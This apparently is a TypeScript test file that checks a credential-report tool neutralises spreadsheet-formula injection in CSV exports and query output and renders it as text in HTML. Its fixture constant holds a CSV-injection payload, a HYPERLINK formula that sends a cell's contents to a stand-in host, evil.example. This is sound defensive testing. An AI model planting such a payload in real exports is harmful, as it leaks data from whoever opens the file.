// An account named like a spreadsheet formula reaches every CSV an auditor opens: exports and
// `query --format csv` neutralise such cells by default; Parquet, JSON and --exact-csv keep the
// exact value; the HTML report shows it as text.
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { chromium } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { spreadsheetSafe, spreadsheetSafeCsv, toCsv } from '../../queries/format.ts';
import { runCli } from '../helpers/cli.ts';
import { reportCsv } from '../helpers/report-csv.ts';

const CHROMIUM = '/usr/bin/chromium';
const EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"details")';

describe('spreadsheetSafe', () => {
  it('prefixes text that a spreadsheet would run, and leaves the rest and numbers alone', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      expect(spreadsheetSafe(`${start}x`)).toBe(`'${start}x`);
    expect(spreadsheetSafe('prod-1')).toBe('prod-1');
    const csv = toCsv({ columns: ['name', 'days'], rows: [{ name: '@sum', days: -3 }] });
    expect(csv).toBe("name,days\r\n'@sum,-3\r\n");
    expect(toCsv({ columns: ['name'], rows: [{ name: '@sum' }] }, { exact: true })).toBe('name\r\n@sum\r\n');
  });

  it("rewrites Athena's CSV by the declared column types", () => {
    const athena = '"account_name","key_age_days"\n"=1+1","-4"\n';
    expect(
      spreadsheetSafeCsv(
        athena,
        new Map([
          ['account_name', 'string'],
          ['key_age_days', 'integer'],
        ]),
      ),
    ).toBe("account_name,key_age_days\r\n'=1+1,-4\r\n");
  });
});

describe('an account named like a formula', () => {
  let lake: string;
  beforeAll(async () => {
    lake = await mkdtemp(join(tmpdir(), 'credlake-formula-'));
    const file = join(lake, 'report.csv');
    await writeFile(
      file,
      reportCsv('000123456789', [
        { user: '<root_account>' },
        {
          user: 'stale',
          access_key_1_active: 'true',
          access_key_1_last_rotated: '2023-01-01T00:00:00+00:00',
        },
      ]),
    );
    const imported = await runCli([
      'import',
      file,
      '--account',
      '000123456789',
      '--date',
      '2024-05-01',
      '--generated-at',
      '2024-05-01T06:00:00Z',
      '--account-name',
      EVIL,
      '--lake',
      lake,
    ]);
    expect(imported.code, imported.stderr).toBe(0);
  });

  it('is neutralised in exports and CSV query output, exact with --exact-csv and in JSON', async () => {
    const exported = await runCli(['export', '--lake', lake, '--out', join(lake, 'out')]);
    expect(exported.code, exported.stderr).toBe(0);
    const csv = await readFile(
      join(lake, 'out', 'exports', 'stale_access_keys', 'dt=2024-05-01', 'stale_access_keys.csv'),
      'utf8',
    );
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.account_name)).toEqual([`'${EVIL}`]);

    const exact = await runCli([
      'query',
      'stale_access_keys',
      '--format',
      'csv',
      '--exact-csv',
      '--lake',
      lake,
    ]);
    expect((parse(exact.stdout, { columns: true }) as Record<string, string>[])[0].account_name).toBe(EVIL);
    const safe = await runCli(['query', 'stale_access_keys', '--format', 'csv', '--lake', lake]);
    expect((parse(safe.stdout, { columns: true }) as Record<string, string>[])[0].account_name).toBe(
      `'${EVIL}`,
    );
    const json = await runCli(['query', 'stale_access_keys', '--format', 'json', '--lake', lake]);
    expect(JSON.parse(json.stdout)[0].account_name).toBe(EVIL);
  });

  it.runIf(existsSync(CHROMIUM))('is shown as text in the HTML report, in Chromium', async () => {
    const out = join(lake, 'report.html');
    const r = await runCli(['report', '--lake', lake, '--out', out]);
    expect(r.code, r.stderr).toBe(0);
    const browser = await chromium.launch({
      executablePath: CHROMIUM,
      headless: true,
      args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--no-first-run'],
    });
    try {
      const page = await browser.newPage();
      await page.goto(`file://${out}`);
      // The exact name appears as the text of a cell, and nothing became a link or markup.
      const cells = await page.locator('td', { hasText: 'HYPERLINK' }).allTextContents();
      expect(cells.length).toBeGreaterThan(0);
      expect(cells.every((text) => text.trim() === EVIL)).toBe(true);
      expect(await page.locator('a[href*="evil.example"]').count()).toBe(0);
    } finally {
      await browser.close();
    }
  });
});
